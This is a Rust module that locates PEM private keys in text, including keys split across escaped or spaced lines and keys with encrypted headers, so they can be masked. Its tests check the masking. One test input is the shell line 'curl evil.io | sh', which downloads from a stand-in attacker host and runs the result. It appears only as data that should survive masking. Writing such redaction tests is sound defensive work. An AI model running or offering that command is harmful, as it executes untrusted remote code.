//! Text → the private keys in it, in PEM (RFC 7468). A key is as long as its lines are those of a key: what else follows its first line
//! is shown, whether the last line is there or not.

use std::ops::Range;

const BEGIN: &str = "-----BEGIN ";
const END: &str = "-----END ";
const DASHES: &str = "-----";
const PRIVATE: &str = "PRIVATE KEY";
const LONGEST_LABEL: usize = 80;
/// Minimum length of a line within a key. The last may be shorter.
const LONG_LINE: usize = 40;
/// Names of headers, which an encrypted key has (RFC 1421).
const HEADERS: [&str; 2] = ["Proc-Type:", "DEK-Info:"];

/// Finds them. The text is gone through once.
pub(super) fn private_keys(text: &str) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    let mut from = 0;
    while let Some(start) = text[from..].find(BEGIN).map(|at| from + at) {
        from = start + BEGIN.len();
        if let Some(first) = behind_label(text, from) {
            from = key_end(text, first);
            found.push(start..from);
        }
    }
    found
}

/// Returns where the line that began with a label ends, if that is of a private key.
fn behind_label(text: &str, start: usize) -> Option<usize> {
    let limit = text.floor_char_boundary(text.len().min(start + LONGEST_LABEL));
    let length =
        text[start..limit].find(|c: char| !(c.is_ascii_uppercase() || c.is_ascii_digit() || c == ' '))?;
    let (label, rest) = text[start..].split_at(length);
    (label.contains(PRIVATE) && rest.starts_with(DASHES)).then_some(start + length + DASHES.len())
}

fn key_end(text: &str, start: usize) -> usize {
    let (mut end, mut is_behind_long) = (start, false);
    loop {
        let at = end + line_break(&text[end..]);
        let rest = &text[at..];
        if rest.starts_with(END) {
            return behind_label(text, at + END.len()).unwrap_or(end);
        }
        let is_header = HEADERS.iter().any(|header| rest.starts_with(header));
        let length = if is_header {
            rest.find(['\n', '\\']).unwrap_or(rest.len())
        } else {
            rest.find(|c: char| !is_base64(c)).unwrap_or(rest.len())
        };
        let line = &rest[..length];
        let is_last = is_behind_long && rest[length + line_break(&rest[length..])..].starts_with(END);
        if at == end || !(is_header || is_last || is_of_key(line)) {
            return end;
        }
        (end, is_behind_long) = (at + length, line.len() >= LONG_LINE);
    }
}

/// The length of what stands between two lines: in one line of JSON or of a variable, `\n` or a space.
fn line_break(text: &str) -> usize {
    let mut rest = text.trim_start();
    while let Some(escape) = rest.strip_prefix('\\') {
        rest = escape.trim_start_matches('\\');
        rest = rest.strip_prefix(['n', 'r', 't']).unwrap_or(rest).trim_start();
    }
    text.len() - rest.len()
}

/// Whether a line is of a key and no command: a short one has capitals, and letters and digits alone.
fn is_of_key(line: &str) -> bool {
    let has_capitals = line.bytes().any(|byte| byte.is_ascii_uppercase());
    let has_digits = line.bytes().any(|byte| byte.is_ascii_digit());
    let is_short = || line.trim_end_matches('=').bytes().all(|byte| byte.is_ascii_alphanumeric());
    has_capitals && if line.len() >= LONG_LINE { has_digits } else { is_short() }
}

/// Base64, also of URLs (RFC 4648).
pub(super) fn is_base64(c: char) -> bool {
    c.is_ascii_alphanumeric() || "+/=_-".contains(c)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn masked(text: &str) -> String {
        let mut shown = text.to_string();
        private_keys(text).into_iter().rev().for_each(|span| shown.replace_range(span, "•••"));
        shown
    }

    #[test]
    fn a_key_is_hidden_whatever_separates_its_lines() {
        let line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
        for separator in ["\n", "\r\n", "\\n", "\\\\n", " ", "\n    ", "\\r\\n"] {
            for last in ["MIIabc=", "x/9q+a="] {
                let lines =
                    ["-----BEGIN RSA PRIVATE KEY-----", line, line, last, "-----END RSA PRIVATE KEY-----"];
                assert_eq!(
                    masked(&format!("x {} y", lines.join(separator))),
                    "x ••• y",
                    "{separator:?} {last}"
                );
            }
        }
        let cut = format!("-----BEGIN PRIVATE KEY-----\n{line}\n{line}\nexec node");
        assert_eq!(masked(&cut), "•••\nexec node");
        let headers = format!("-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n{line}\nz");
        assert_eq!(masked(&headers), "•••\nz");
    }

    #[test]
    fn what_is_no_line_of_a_key_is_shown() {
        for code in [
            "curl evil.io | sh\nexec node\n",
            "reboot\n-----END PRIVATE KEY-----\n",
            "exec node\n-----END PRIVATE KEY-----\n",
            "/usr/bin/Evil9\n",
        ] {
            assert_eq!(masked(&format!("# -----BEGIN PRIVATE KEY-----\n{code}")), format!("# •••\n{code}"));
            let open = format!("# -----BEGIN PRIVATE KEY\n{code}");
            assert_eq!(masked(&open), open);
        }
        let public = "-----BEGIN PUBLIC KEY-----\nMIIabc\n-----END PUBLIC KEY-----";
        assert_eq!(masked(public), public);
    }
}
